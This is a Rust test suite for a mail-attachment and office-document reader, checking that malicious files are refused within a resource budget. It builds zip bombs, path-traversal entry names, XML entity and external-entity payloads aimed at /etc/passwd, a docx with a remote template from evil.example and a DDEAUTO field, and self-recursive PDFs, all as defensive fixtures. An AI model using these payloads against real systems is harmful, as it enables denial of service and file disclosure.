//! Files made to do harm: each ends in a sentence, within the budget, and nothing of it is fetched, run or written.

use std::io::{Cursor, Write};

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

use crate::samples::{self, EmlSpec};
use crate::{Budget, Documents, FileKind, Meter, Note, Unreadable, read_document, read_message, unpack};

fn read(name: &str, bytes: &[u8]) -> Result<crate::Document, Unreadable> {
    read_document(name, bytes, &Budget::default())
}

fn documents(files: Vec<(String, Vec<u8>)>) -> Documents {
    let mail = samples::eml(&EmlSpec { from: "a@b.example".to_owned(), attachments: files, ..EmlSpec::default() });
    let message = read_message(&mail, &Budget::default()).expect("a mail");
    Documents::of(&message, &Budget::default())
}

/// A zip of entries that are stored under whatever names, in the raw.
fn raw_zip(names: &[&[u8]], body: &[u8]) -> Vec<u8> {
    let (mut file, mut directory) = (Vec::new(), Vec::new());
    let length = |n: usize| u32::try_from(n).expect("small").to_le_bytes();
    let short = |n: usize| u16::try_from(n).expect("small").to_le_bytes();
    let sum = crc(body).to_le_bytes();
    for name in names {
        let place = length(file.len());
        let about = [&[20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0][..], &sum, &length(body.len()), &length(body.len())].concat();
        file.extend([b"PK\x03\x04".as_slice(), &about, &short(name.len()), &[0, 0], name, body].concat());
        directory.extend([b"PK\x01\x02\x14\0".as_slice(), &about, &short(name.len()), &[0; 12], &place, name].concat());
    }
    let at = length(file.len());
    let count = short(names.len());
    let end = [b"PK\x05\x06\0\0\0\0".as_slice(), &count, &count, &length(directory.len()), &at, &[0, 0]].concat();
    [file, directory, end].concat()
}

fn crc(bytes: &[u8]) -> u32 {
    let mut sum = flate2::Crc::new();
    sum.update(bytes);
    sum.sum()
}

#[test]
fn names_of_entries_never_lead_anywhere() {
    let names: [&[u8]; 7] = [
        b"../../../etc/passwd.txt",
        b"/etc/shadow.txt",
        b"C:\\Windows\\a.txt",
        b"..\\..\\b.txt",
        b"c\0.txt",
        "\u{202E}txt.exe.txt".as_bytes(),
        // 信息.txt in GBK, without the flag for UTF-8.
        b"\xD0\xC5\xCF\xA2.txt",
    ];
    let entries = unpack(&raw_zip(&names, b"x"), &Budget::default()).expect("a sound archive");
    let found: Vec<&str> = entries.iter().map(|entry| entry.name.as_str()).collect();
    assert_eq!(found, ["passwd.txt", "shadow.txt", "a.txt", "b.txt", "c.txt", "txt.exe.txt", "信息.txt"]);
}

#[test]
fn sixty_five_thousand_entries_are_refused_before_they_are_listed() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for number in 0..65_534 {
        let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
        writer.start_file(format!("{number}"), stored).expect("a new name");
    }
    let mut bytes = writer.finish().expect("memory").into_inner();
    assert_eq!(unpack(&bytes, &Budget::default()), Err(Unreadable::TooManyEntries { limit: 1_000 }));
    // The same where the record at the end says that more are counted elsewhere.
    let end = bytes.len() - 22;
    bytes[end + 8..end + 12].fill(0xFF);
    assert_eq!(unpack(&bytes, &Budget::default()), Err(Unreadable::TooManyEntries { limit: 1_000 }));
}

#[test]
fn overlapping_entries_are_counted_each_time() {
    // A thousand names for one place: the directory of another bomb, pointing at its first entry only.
    let names: Vec<Vec<u8>> = (0..900).map(|n| format!("{n:04}.txt").into_bytes()).collect();
    let names: Vec<&[u8]> = names.iter().map(Vec::as_slice).collect();
    let body = vec![b'0'; 100 << 10];
    let mut bytes = raw_zip(&names[..1], &body);
    let file = bytes.windows(4).position(|w| w == b"PK\x01\x02").expect("a directory");
    let mut record = bytes[file..bytes.len() - 22].to_vec();
    let place = u32::try_from(file).expect("small").to_le_bytes();
    bytes.truncate(file);
    let name_at = record.len() - 8;
    for name in &names {
        record[name_at..].copy_from_slice(name);
        bytes.extend(&record);
    }
    let size = u32::try_from(record.len() * names.len()).expect("small").to_le_bytes();
    let count = u16::try_from(names.len()).expect("small").to_le_bytes();
    bytes.extend([b"PK\x05\x06\0\0\0\0".as_slice(), &count, &count, &size, &place, &[0, 0]].concat());
    assert_eq!(unpack(&bytes, &Budget::default()), Err(Unreadable::UnpacksTooLarge { limit_mb: 48 }));
}

#[test]
fn two_hundred_bombs_cost_no_more_than_one_budget() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("信息.txt", SimpleFileOptions::default()).expect("a new name");
    for _ in 0..40 {
        writer.write_all(&vec![b'0'; 1 << 20]).expect("memory");
    }
    let bomb = writer.finish().expect("memory").into_inner();
    let found = documents((0..150).map(|n| (format!("{n}.zip"), bomb.clone())).collect());
    let reasons: Vec<&Unreadable> = found.outcomes().filter_map(|(_, _, read)| read.err()).collect();
    assert!(reasons.contains(&&Unreadable::TooMuchWork), "{reasons:?}");
    // Every one of them has its own sentence all the same.
    assert!(reasons.len() >= 150);
}

#[test]
fn a_meter_that_is_used_up_stays_so() {
    let budget = Budget { max_work: 100, ..Budget::default() };
    let mut meter = Meter::new(&budget);
    assert_eq!(meter.work(60), Ok(()));
    assert_eq!(meter.work(60), Err(Unreadable::TooMuchWork));
    assert_eq!(meter.work(1), Err(Unreadable::TooMuchWork));
}

#[test]
fn archives_within_archives_end_at_the_budget() {
    let mut bytes = samples::zip(&[("信息.txt", b"x")]);
    for _ in 0..100 {
        bytes = samples::zip(&[("内.zip", &bytes)]);
    }
    let found = documents(vec![("套.zip".to_owned(), bytes)]);
    let reasons: Vec<_> = found.outcomes().filter_map(|(_, _, read)| read.err().cloned()).collect();
    assert_eq!(reasons, [Unreadable::TooDeep { limit: 3 }]);
}

#[test]
fn document_types_and_entities_are_refused_in_every_format_of_xml() {
    let bomb = r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY e SYSTEM "file:///etc/passwd">]>"#;
    let word = format!(
        "{bomb}<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>&b;&e;</w:t></w:r></w:p></w:body></w:document>"
    );
    let page =
        format!("{bomb}<o:Page xmlns:o=\"o\"><o:TextObject><o:TextCode>&e;</o:TextCode></o:TextObject></o:Page>");
    let sheet = format!(
        "{bomb}<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&e;</t></is></c></row></sheetData></worksheet>"
    );
    let single = format!(
        "{bomb}<?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"w\"><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:wordDocument>"
    );
    let root = br#"<o:OFD xmlns:o="o"><o:DocRoot>D.xml</o:DocRoot></o:OFD>"#;
    let body = br#"<o:Document xmlns:o="o"><o:Page BaseLoc="P.xml"/></o:Document>"#;
    let files = [
        ("a.docx", FileKind::Docx, samples::zip(&[("word/document.xml", word.as_bytes())])),
        ("a.ofd", FileKind::Ofd, samples::zip(&[("OFD.xml", root), ("D.xml", body), ("P.xml", page.as_bytes())])),
        ("a.xlsx", FileKind::Spreadsheet, samples::zip(&[("xl/workbook.xml", sheet.as_bytes())])),
        ("a.doc", FileKind::WordXml, single.into_bytes()),
    ];
    for (name, kind, bytes) in files {
        let what = "文档类型定义（DTD）";
        assert_eq!(read(name, &bytes), Err(Unreadable::Forbidden { kind, what }), "{name}");
    }
    // A drawing is no text at all.
    let drawing = format!("{bomb}<svg><text>&e;</text></svg>");
    assert_eq!(read("a.svg", drawing.as_bytes()), Err(Unreadable::NotYet { kind: FileKind::Unknown }));
}

#[test]
fn a_hundred_thousand_levels_are_refused_in_every_format_of_xml() {
    let deep = |tag: &str| format!("<{tag}>").repeat(100_000);
    let root = br#"<o:OFD xmlns:o="o"><o:DocRoot>D.xml</o:DocRoot></o:OFD>"#;
    let body = br#"<o:Document xmlns:o="o"><o:Page BaseLoc="P.xml"/></o:Document>"#;
    let page = deep("o:PageBlock");
    let slide = deep("a:p");
    let refused = Err(Unreadable::TooDeep { limit: 256 });
    assert_eq!(
        read("a.ofd", &samples::zip(&[("OFD.xml", root), ("D.xml", body), ("P.xml", page.as_bytes())])),
        refused
    );
    let slides = samples::zip(&[("ppt/presentation.xml", b"<p/>"), ("ppt/slides/slide1.xml", slide.as_bytes())]);
    assert_eq!(read("a.pptx", &slides), refused);
}

#[test]
fn what_would_run_or_fetch_is_noted() {
    let links = br#"<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>"#;
    let body = br#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\x</w:instrText><w:t>a</w:t></w:r></w:p></w:body></w:document>"#;
    let bytes = samples::zip(&[
        ("word/document.xml", body),
        ("word/_rels/document.xml.rels", links),
        ("word/vbaProject.bin", b"x"),
        ("word/embeddings/oleObject1.bin", b"x"),
    ]);
    let document = read("a.docm", &bytes).expect("a sound document");
    assert_eq!(document.notes, [Note::Macros, Note::EmbeddedFiles, Note::ProgramField, Note::ExternalParts]);
}

#[test]
fn places_in_a_package_lead_to_its_own_entries_only() {
    let root = br#"<o:OFD xmlns:o="o"><o:DocRoot>../../../../etc/passwd</o:DocRoot></o:OFD>"#;
    assert_eq!(read("a.ofd", &samples::zip(&[("OFD.xml", root)])), Err(Unreadable::Damaged { kind: FileKind::Ofd }));
}

#[test]
fn a_sheet_of_two_cells_at_its_corners_is_two_cells() {
    let sheet = r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>b</t></is></c></row></sheetData></worksheet>"#;
    let document = read("a.xlsx", &workbook(sheet)).expect("a sound sheet");
    assert_eq!(document.paragraphs[1..], ["a", "b"]);
}

#[test]
fn a_pdf_that_unpacks_without_end_or_calls_itself_is_read_within_its_budget() {
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        packed.write_all(&vec![b' '; 1 << 20]).expect("memory");
    }
    let packed = packed.finish().expect("memory");
    let mut file = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>\nendobj\n".to_vec();
    file.extend(format!("4 0 obj\n<< /Length {} /Filter /FlateDecode >>\nstream\n", packed.len()).into_bytes());
    file.extend(&packed);
    file.extend(b"\nendstream\nendobj\n5 0 obj\n<< /Type /XObject /Subtype /Form /Resources << /XObject << /F 5 0 R >> >> /Length 10 >>\nstream\n/F Do /F Do\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 6 >>\n%%EOF");
    let reason = read("a.pdf", &file).expect_err("there is no text in it");
    assert!(matches!(reason, Unreadable::Empty { .. } | Unreadable::Damaged { .. }), "{reason}");
    // Pages of nothing but brackets would take forty times their size as objects.
    let brackets = [b"%PDF-1.4\n1 0 obj\n".to_vec(), b"[0]".repeat(2 << 20)].concat();
    assert_eq!(read("a.pdf", &brackets), Err(Unreadable::TooLarge { limit_mb: 4 }));
}

#[test]
fn an_outlook_package_that_lies_about_its_lengths_gives_what_can_be_followed() {
    let mut package = samples::tnef("请查收。", &[("信息.txt", b"x")]);
    let last = package.len() - 3 - 4;
    package[last..last + 4].copy_from_slice(&u32::MAX.to_le_bytes());
    let document = read("winmail.dat", &package).expect("what stood before");
    assert!(document.whole_text().contains("请查收。"));
}

/// A workbook of one sheet, which is `sheet`.
fn workbook(sheet: &str) -> Vec<u8> {
    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
    for entry in unpack(&samples::xlsx(&["x"]), &Budget::default()).expect("a sound archive") {
        let bytes = if entry.path.ends_with("sheet1.xml") { sheet.as_bytes().to_vec() } else { entry.bytes };
        parts.push((entry.path, bytes));
    }
    let parts: Vec<(&str, &[u8])> = parts.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())).collect();
    samples::zip(&parts)
}

#[test]
fn a_workbook_whose_places_cannot_be_counted_is_read_or_refused_without_a_panic() {
    // The library subtracts and multiplies these unchecked (calamine issues 692 and 709).
    let places = [
        (r#"<dimension ref="C5:A1"/>"#, r#"r="1""#, r#"r="A1""#),
        ("", r#"r="0""#, r#"r="A1""#),
        ("", r#"r="1""#, r#"r="AAAAAAAAAAAA1""#),
        ("", r#"r="1""#, r#"r="A99999999999999""#),
        (r#"<dimension ref="AAAAAAAAAAAAA1:A1"/>"#, r#"r="1""#, ""),
    ];
    for (dimension, row, cell) in places {
        let sheet = format!(
            r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dimension}<sheetData><row {row}><c {cell} t="inlineStr"><is><t>机密★1年</t></is></c></row></sheetData></worksheet>"#
        );
        match read("台账.xlsx", &workbook(&sheet)) {
            Ok(document) => assert!(document.whole_text().contains("机密★1年"), "{sheet}"),
            Err(reason) => assert_eq!(reason, Unreadable::Damaged { kind: FileKind::Spreadsheet }, "{sheet}"),
        }
    }
}

#[test]
fn an_archive_by_7_zip_is_read_and_refused_as_any_other() {
    let docx = samples::docx(
        "滨湖镇部署防汛",
        &["入汛以来，全镇划分十二个片区，由镇村干部包片负责，逐户登记、逐项整改。".repeat(3)],
    );
    let outcomes = |bytes: Vec<u8>| -> Vec<(String, Option<String>)> {
        let found = documents(vec![("信息.7z".to_owned(), bytes)]);
        let told = found.outcomes().map(|(name, _, read)| (name.to_owned(), read.err().map(ToString::to_string)));
        told.collect()
    };
    let good = samples::seven_zip(&[("文件夹/信息.docx", &docx), ("../../说明.txt", "请查收。".as_bytes())]);
    let read = outcomes(good.clone());
    assert_eq!(read, [("信息.7z/信息.docx".to_owned(), None), ("信息.7z/说明.txt".to_owned(), None)]);
    // Marks are looked for in what is in it, and in its names.
    let mark = |files: &[(&str, &[u8])]| {
        let mail = samples::eml(&EmlSpec {
            from: "a@b.example".to_owned(),
            attachments: vec![("信息.7z".to_owned(), samples::seven_zip(files))],
            ..EmlSpec::default()
        });
        let message = read_message(&mail, &Budget::default()).expect("a mail");
        let documents = Documents::of(&message, &Budget::default());
        crate::find_mark(&message, &documents, &crate::Wordings::default()).map(|mark| mark.found)
    };
    assert_eq!(mark(&[("a.txt", "机密★1年".as_bytes())]).as_deref(), Some("机密★"));
    assert_eq!(mark(&[("（秘密）.txt", b"x")]).as_deref(), Some("(秘密)"));
    let many: Vec<(String, &[u8])> = (0..1_001).map(|at| (format!("（秘密）{at}.txt"), &b"x"[..])).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, bytes)| (name.as_str(), *bytes)).collect();
    assert_eq!(mark(&many).as_deref(), Some("(秘密)"), "too many to be unpacked");

    let bomb = samples::seven_zip(&[("a.txt", &vec![b' '; 60 << 20])]);
    assert!(bomb.len() < 1 << 20);
    let refused = |bytes: Vec<u8>| outcomes(bytes).into_iter().filter_map(|(_, why)| why).collect::<Vec<_>>();
    assert!(refused(bomb)[0].contains("解压后超过48兆字节"));
    assert!(refused(samples::seven_zip(&many))[0].contains("压缩包内文件超过1000个"));
    for at in (0..good.len()).step_by(7) {
        let mut broken = good.clone();
        broken[at] ^= 0x55;
        assert!(refused(broken).iter().all(|why| why.ends_with('。')));
        assert!(refused(good[..at].to_vec()).iter().all(|why| why.ends_with('。')));
    }
    let rar = refused(b"Rar!\x1A\x07\0 something".to_vec());
    assert_eq!(rar, [Unreadable::Rar.to_string()]);
}

#[test]
fn names_in_an_archive_that_is_refused_as_a_whole_are_looked_at_for_marks() {
    let mark = |bytes: Vec<u8>| {
        let mail = samples::eml(&EmlSpec {
            from: "a@b.example".to_owned(),
            attachments: vec![("资料.zip".to_owned(), bytes)],
            ..EmlSpec::default()
        });
        let message = read_message(&mail, &Budget::default()).expect("a mail");
        let documents = Documents::of(&message, &Budget::default());
        crate::find_mark(&message, &documents, &crate::Wordings::default()).map(|mark| mark.found)
    };
    let marked = "方案（绝密★）.docx".as_bytes();
    // 绝密 in GBK.
    let in_gbk = b"\xA3\xA8\xBE\xF8\xC3\xDC\xA3\xA9.docx".as_slice();
    let many = |name| raw_zip(&[&[name][..], &vec![b"a.txt".as_slice(); 2_000]].concat(), b"x");
    assert_eq!(mark(many(marked)).as_deref(), Some("绝密★"), "too many entries to be opened");
    assert_eq!(mark(many(in_gbk)).as_deref(), Some("(绝密)"));
    assert_eq!(mark(many("工作方案.docx".as_bytes())), None);
    let mut cut = raw_zip(&[marked], b"x");
    cut.truncate(60);
    assert_eq!(mark(cut).as_deref(), Some("绝密★"), "its directory is gone");
    let deep = (0..Budget::default().max_archives)
        .fold(raw_zip(&[marked], b"x"), |inner, _| samples::zip(&[("内层.zip", &inner)]));
    assert_eq!(mark(deep).as_deref(), Some("绝密★"), "too deep to be opened");
}
